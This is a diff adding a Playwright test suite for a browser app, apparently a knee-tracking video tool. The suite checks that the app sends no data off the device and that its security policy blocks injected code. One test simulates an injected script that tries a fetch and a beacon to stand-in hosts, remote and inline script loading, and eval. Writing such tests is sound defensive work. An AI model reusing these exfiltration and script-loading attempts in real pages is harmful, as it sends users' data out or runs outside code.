@@ -1,0 +1,168 @@
+import { readFileSync } from 'node:fs';
+import { expect, test, type BrowserContext, type Page } from '@playwright/test';
+import { projectRoot } from '../../src/commands/tools/projectRoot';
+
+/** The network is slow on a machine that does other things as well. */
+const trackingTimeoutMs = 80_000;
+
+interface Watch {
+  /** Every address that page and worker asked for, or opened a connection to. */
+  requests: string[];
+  /** What the page's policy refused, as the page was told. */
+  violations: string[];
+  /** Everything that was written to the console, by page or worker. */
+  console: string[];
+}
+
+/** Watches all that leaves a page, from before its first script runs. */
+async function watch(context: BrowserContext): Promise<Watch> {
+  const seen: Watch = { requests: [], violations: [], console: [] };
+  context.on('request', (request) => seen.requests.push(request.url()));
+  context.on('page', (page) => page.on('websocket', (socket) => seen.requests.push(socket.url())));
+  context.on('console', (message) => seen.console.push(message.text()));
+  context.on('weberror', (error) => seen.console.push(error.error().message));
+  await context.exposeFunction('tellViolation', (text: string) => seen.violations.push(text));
+  await context.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, sample }) => {
+      const { tellViolation } = window as unknown as { tellViolation(text: string): void };
+      tellViolation(`${effectiveDirective} refused ${blockedURI} (${sourceFile}) ${sample}`);
+    });
+  });
+  return seen;
+}
+
+const rows = (page: Page) => page.getByRole('grid', { name: 'Repetitions' }).getByRole('rowheader');
+
+const outside = (seen: Watch, origin: string) =>
+  seen.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith(`blob:${origin}/`));
+
+/** Chromium tells of a worker's refusals in the console only. */
+const refusals = (seen: Watch) => [
+  ...seen.violations,
+  ...seen.console.filter((text) => /Content Security Policy|Refused to/i.test(text)),
+];
+
+async function download(page: Page, press: () => Promise<void>) {
+  const coming = page.waitForEvent('download');
+  await press();
+  const file = await coming;
+  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
+}
+
+test('looking at the example, tracking a clip and saving: nothing leaves the device', async ({
+  page,
+  context,
+  baseURL,
+}) => {
+  test.setTimeout(2 * trackingTimeoutMs);
+  const origin = new URL(baseURL!).origin;
+  const seen = await watch(context);
+  await page.goto('./');
+  await page.getByRole('button', { name: 'Open the example' }).click();
+  await expect(rows(page)).toHaveCount(6);
+  await page.getByRole('button', { name: 'Go to this moment' }).click();
+  await page.getByRole('button', { name: 'New video' }).click();
+
+  await page.locator('input[type=file]').setInputFiles({
+    name: 'Erika-Mustermann-knee.mp4',
+    mimeType: 'video/mp4',
+    buffer: readFileSync(`${projectRoot}fixtures/short.mp4`),
+  });
+  await page.getByRole('radio', { name: 'Right leg' }).check({ force: true });
+  await page.getByRole('button', { name: /How closely to look/ }).click();
+  await page.getByRole('option', { name: /lite/ }).click();
+  await page.getByRole('button', { name: 'Measure this video' }).click();
+  await expect(rows(page)).toHaveCount(2, { timeout: trackingTimeoutMs });
+
+  const files = [
+    await download(page, () => page.getByRole('button', { name: 'Save session' }).click()),
+    await download(page, () => saveTable(page, 'A row a repetition')),
+    await download(page, () => saveTable(page, 'A row a frame')),
+  ];
+  expect(files.map(({ name }) => name.replace(/\d{4}-\d\d-\d\d/, 'DATE'))).toEqual([
+    'overfoot-session-DATE.json',
+    'overfoot-repetitions-DATE.csv',
+    'overfoot-frames-DATE.csv',
+  ]);
+  for (const { name, text } of files) expect(text, name).not.toContain('Mustermann');
+  expect(files[1]!.text.split('\r\n')).toHaveLength(1 + 2 + 1);
+
+  // The worker's own requests were heard too, so that silence means something.
+  expect(seen.requests.some((url) => url.endsWith('models/blazepose-lite.bin'))).toBe(true);
+  expect(outside(seen, origin)).toEqual([]);
+  expect(refusals(seen)).toEqual([]);
+  for (const url of seen.requests) expect(url).not.toMatch(/mustermann|[?#]/i);
+  const spoken = seen.console.join('\n');
+  expect(spoken).not.toMatch(
+    /mustermann|\.mp4|\.json|\.csv|repetition|verdict|\d\s*(°|degrees)|inward|outward|knee/i,
+  );
+});
+
+test('what runs threads in WebAssembly may do so', async ({ page, context }) => {
+  const seen = await watch(context);
+  await page.goto('./');
+  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
+  const cores = await page.evaluate(() => navigator.hardwareConcurrency);
+  const running = cores > 1 ? /the body finder runs on .*(\d+ threads|graphics)/ : /the body finder runs on/;
+  await expect(page.getByText(running)).toBeVisible({ timeout: trackingTimeoutMs });
+  expect(refusals(seen)).toEqual([]);
+});
+
+test('a script that got in could neither send anything nor start another script', async ({
+  page,
+  context,
+}) => {
+  const seen = await watch(context);
+  await page.goto('./');
+  const outcome = await page.evaluate(async () => {
+    const tries: Record<string, string> = {};
+    const elsewhere = 'https://elsewhere.invalid/';
+    tries['fetch'] = await fetch(elsewhere, { mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'refused',
+    );
+    // Counts as sent where the browser takes it before it asks the policy, which then drops it: see below.
+    navigator.sendBeacon('https://beacon.invalid/', 'x');
+    const loads = (element: HTMLElement) =>
+      new Promise<string>((resolve) => {
+        element.onload = () => resolve('loaded');
+        element.onerror = () => resolve('refused');
+        document.body.append(element);
+      });
+    tries['picture'] = await loads(Object.assign(new Image(), { src: elsewhere }));
+    const script = document.createElement('script');
+    script.src = `${elsewhere}x.js`;
+    tries['script'] = await loads(script);
+    const ran = window as unknown as { ran?: boolean };
+    const inline = document.createElement('script');
+    inline.textContent = 'window.ran = true';
+    document.body.append(inline);
+    tries['inline script'] = ran.ran ? 'ran' : 'refused';
+    const fromBlob = document.createElement('script');
+    fromBlob.src = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' }));
+    tries['script from memory'] = await loads(fromBlob);
+    try {
+      tries['eval'] = String(new Function('return "ran"')());
+    } catch {
+      tries['eval'] = 'refused';
+    }
+    return tries;
+  });
+  expect(outcome).toMatchObject({
+    fetch: 'refused',
+    picture: 'refused',
+    script: 'refused',
+    'inline script': 'refused',
+    'script from memory': 'refused',
+    eval: 'refused',
+  });
+  await expect
+    .poll(() => new Set(seen.violations.map((text) => text.split(' ')[0])))
+    .toEqual(new Set(['connect-src', 'img-src', 'script-src-elem', 'script-src']));
+  expect(seen.violations.join('\n')).toContain('connect-src refused https://beacon.invalid/');
+});
+
+async function saveTable(page: Page, name: string) {
+  await page.getByRole('button', { name: 'Save as CSV' }).click();
+  await page.getByRole('menuitem', { name }).click();
+}
